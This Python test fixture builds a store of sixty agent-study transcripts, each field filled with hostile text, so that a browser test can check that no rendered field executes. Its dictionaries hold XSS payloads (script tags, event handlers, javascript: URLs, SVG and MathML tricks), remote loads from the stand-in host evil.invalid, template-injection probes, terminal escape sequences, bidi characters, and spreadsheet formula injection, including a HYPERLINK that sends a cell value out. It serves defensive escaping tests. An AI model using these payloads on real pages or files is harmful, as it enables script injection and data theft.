"""Sixty hostile transcripts: each has one hostile text in every field that a model, or a scenario's writer, fills.

Whatever runs sets ``window.__ran``: a test in a browser asks for it. ``fill_hostile`` makes the store.
"""

from pathlib import Path
from typing import Any

from scenarios import make_scenario, scenario_data

from dilemma_kernel.records import (
    BASELINE,
    Ask,
    Cell,
    ChatReply,
    EnvironmentReply,
    Fault,
    Judgement,
    Measured,
    Move,
    Scenario,
    StudyRecord,
    ToolCall,
    Trajectory,
    Turn,
    Unmeasured,
    content_hash,
)
from trajectories import open_store

STUDY = "hostile"
RAN = "window.__ran=1"
"""What a payload does where a page runs it."""

_SCRIPTS = {
    "script": f"<script>{RAN}</script>",
    "script upper": f"<SCRIPT>{RAN}</SCRIPT>",
    "script nested": f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    "script source": '<script src="https://evil.invalid/x.js"></script>',
    "script no end": f"<script>{RAN}//",
    "script after title": f"</title><script>{RAN}</script>",
    "script after style": f"</style><script>{RAN}</script>",
    "script after script": f"</script><script>{RAN}</script>",
    "script after textarea": f"</textarea><script>{RAN}</script>",
    "script after comment": f"--><script>{RAN}</script><!--",
    "script after cdata": f"]]><script>{RAN}</script>",
    "script in template": f"<template><script>{RAN}</script></template>",
    "script in noscript": f'<noscript><p title="</noscript><script>{RAN}</script>">',
    "script module": f'<script type="module">{RAN}</script>',
    "script with NUL": f"<scr\0ipt>{RAN}</scr\0ipt>",
}
_HANDLERS = {
    "img": f"<img src=x onerror={RAN}>",
    "img quoted": f'"><img src=x onerror="{RAN}">',
    "img single": f"'><img src=x onerror='{RAN}'>",
    "body": f"<body onload={RAN}>",
    "details": f"<details open ontoggle={RAN}>",
    "input": f"<input autofocus onfocus={RAN}>",
    "video": f"<video><source onerror={RAN}></video>",
    "marquee": f"<marquee onstart={RAN}>",
    "attribute": f'" onmouseover="{RAN}" x="',
    "attribute single": f"' autofocus onfocus='{RAN}' x='",
    "attribute no quotes": f" onfocus={RAN} autofocus tabindex=1 ",
    "backticks": f"`onerror={RAN}`",
}
_VECTORS = {
    "svg": f"<svg onload={RAN}></svg>",
    "svg script": f"<svg><script>{RAN}</script></svg>",
    "svg animate": f"<svg><animate onbegin={RAN} attributeName=x dur=1s></svg>",
    "svg foreign": f"<svg><foreignObject><body onload={RAN}></foreignObject></svg>",
    "svg use": '<svg><use href="https://evil.invalid/x.svg#a"/></svg>',
    "svg end": f"</text></svg><script>{RAN}</script>",
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{RAN}">',
    "iframe": f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    "object": f'<object data="javascript:{RAN}"></object>',
    "base": '<base href="https://evil.invalid/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
    "link": '<link rel="stylesheet" href="https://evil.invalid/x.css">',
    "style": "<style>body{display:none}@import url(https://evil.invalid/x.css);</style>",
    "form": f'<form action="javascript:{RAN}"><button>label</button></form>',
    "javascript link": f'<a href="javascript:{RAN}">the record</a>',
    "javascript bare": f"javascript:{RAN}",
    "javascript spaced": f"java\tscript:{RAN}",
    "markdown link": f"[the record](javascript:{RAN})",
    "template words": "{{ 7*7 }} {% for x in y %} ${7*7} #{7*7} <%= 7*7 %>",
    "htmx": f'<div hx-get="https://evil.invalid/" hx-trigger="load" hx-on::load="{RAN}">',
}
_CHARACTERS = {
    "entities": f"&lt;script&gt;{RAN}&lt;/script&gt; &#60;b&#62; &amp;lt; &#x3c;i&#x3e;",
    "entity no end": f"&#0000060script&#62{RAN}",
    "bidi": "status \u202edetnarg\u202c \u2066held\u2069 \u200fok\u200e",
    "NUL": "before\0after\0\0",
    "surrogates": "high \ud800 low \udfff pair reversed \udc00\ud800",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[8mhidden \x9b5n \x1b]8;;https://evil.invalid\x07link",
    "line ends": "one\rtwo\x0bthree\x0cfour\x85five\u2028six\u2029seven",
    "zero width": "pay\u200bload\u200d \ufeffbom \u00adsoft \U000e0041\U000e0042tags",
    "formula": '=HYPERLINK("https://evil.invalid/?"&A1,"open")',
    "formula plus": "+cmd|' /C calc'!A0",
    "formula at": "\t@SUM(1+1)*cmd|' /C calc'!A0",
    "combining": "Z" + "\u0301\u0489\u0338" * 300,
    "five megabytes": "<b>&amp;\u202e" * 625_000,
}
HOSTILE: dict[str, str] = {**_SCRIPTS, **_HANDLERS, **_VECTORS, **_CHARACTERS}
"""Name -> text. Sixty of them."""

_LONGEST = 400
"""Characters of a text where it stands as a key or a name."""

_LONG = 20_000
"""Characters of a text everywhere but where it is whole: what the agent was told, and what it observed once."""


def hostile_scenario() -> Scenario:
    """A scenario whose writer put a script into every text; names and keys are as a scenario's must be."""
    text = _SCRIPTS["script"] + _HANDLERS["attribute"] + _CHARACTERS["bidi"] + _CHARACTERS["terminal"]
    data = scenario_data()
    core = data["core"]
    for action in core["actions"]:
        action.update(name=f"{action['name']}{_SCRIPTS['script']}", description=text, result=text)
    core["narrative"].update(role=text, setting=text, trigger=text, conflict=text)
    return make_scenario(title=text, no_dilemma=text, actions=core["actions"], narrative=core["narrative"])


def hostile_record(repeats: int = 1) -> StudyRecord:
    """The study: one cell, named by a hostile agent."""
    scenario = hostile_scenario()
    return StudyRecord(
        name=STUDY,
        cells=(CELL,),
        scenarios={scenario.name: scenario.scenario_id},
        pack=_SCRIPTS["script"],
        pack_hash="p" * 16,
        turns=2,
        episodes=len(HOSTILE) * repeats,
        seed=0,
        versions={_SCRIPTS["script"]: _HANDLERS["img"]},
    )


CELL = Cell(agent=f"evil/{_SCRIPTS['script']}\x1b[31m", environment=_HANDLERS["attribute"], levels=dict(BASELINE))


def hostile_trajectories() -> list[Trajectory]:
    """One for each text of ``HOSTILE``, in its order."""
    scenario = hostile_scenario()
    return [_trajectory(scenario, text, repeat) for repeat, text in enumerate(HOSTILE.values())]


def hostile_judgements(trajectory: Trajectory) -> list[Judgement]:
    """The rules' label, and what a hostile judge and person say."""
    text = trajectory.opening[:_LONG]
    tame = text.encode("utf-8", "replace").decode().replace("\0", "")[:_LONGEST]
    common: dict[str, Any] = {"subject": trajectory.episode_id, "version": "1", "cites": (1,)}
    label = ("direct", "robust", "strategic", "failed", "stalling")[trajectory.repeat % 5]
    return [
        Judgement(
            vocabulary="label",
            maker="rules",
            outcome=Measured(value=label),
            note=text,
            **common,
        ),
        Judgement(vocabulary="executed_label", maker="rules", outcome=Measured(value="direct"), **common),
        Judgement(vocabulary="label", maker="evil/judge", outcome=Measured(value="robust"), note=text, **common),
        Judgement(vocabulary="label", maker=f"person/{tame[:40]}", outcome=Unmeasured(why=text[:_LONGEST]), **common),
    ]


async def fill_hostile(path: Path | str) -> None:
    """Put all of it into a store, which is made where it is missing."""
    async with open_store(str(path)) as store:
        await store.save_study(hostile_record(), [hostile_scenario()])
        for trajectory in hostile_trajectories():
            await store.save(trajectory, hostile_judgements(trajectory))


def _trajectory(scenario: Scenario, text: str, repeat: int) -> Trajectory:
    short, long = text[:_LONGEST], text[:_LONG]
    action = scenario.core.actions[0].key
    return Trajectory(
        episode_id=content_hash([STUDY, repeat]),
        study=STUDY,
        case=scenario.core_id,
        scenario=scenario.name,
        scenario_id=scenario.scenario_id,
        domain=scenario.core.domain,
        cell=CELL,
        repeat=repeat,
        seed=repeat,
        budget=2,
        opening=text,
        order=tuple(one.key for one in scenario.core.actions),
        initial_state={**scenario.core.initial_state, short: short},
        probe=Ask(reply=ChatReply(text=long), problem=short),
        turns=(_played(text, short, action), _lost(long, short)),
        ended="budget",
        truncated=True,
        error=long,
        versions={short: short},
    )


def _played(text: str, short: str, action: str) -> Turn:
    long = text[:_LONG]
    call = ToolCall(name=short, arguments={short: short}, raw=long, call_id=short)
    return Turn(
        index=1,
        asks=(Ask(reply=ChatReply(text=long, refusal=long), problem=short), Ask(reply=_reply(long, short, call))),
        move=Move(action=action, parameters={short: {"deep": [short]}}, reasoning=long, rung="tools"),
        response=EnvironmentReply(
            observation=text,
            patch={short: f"{short}!", "lot_status": short},
            faults=(Fault(kind="schema", detail=long, mended="repaired"),),
            replies=(_reply(long, short, call),),
        ),
    )


def _lost(text: str, short: str) -> Turn:
    malformed = ToolCall(name=None, arguments=None, raw=text, malformed=short)
    return Turn(index=2, asks=(Ask(reply=_reply(text, short, malformed), problem=short),), move=None, response=None)


def _reply(text: str, short: str, call: ToolCall) -> ChatReply:
    return ChatReply(text=text, calls=(call,), reasoning=text, model=short, fingerprint=short, omitted=(short,))
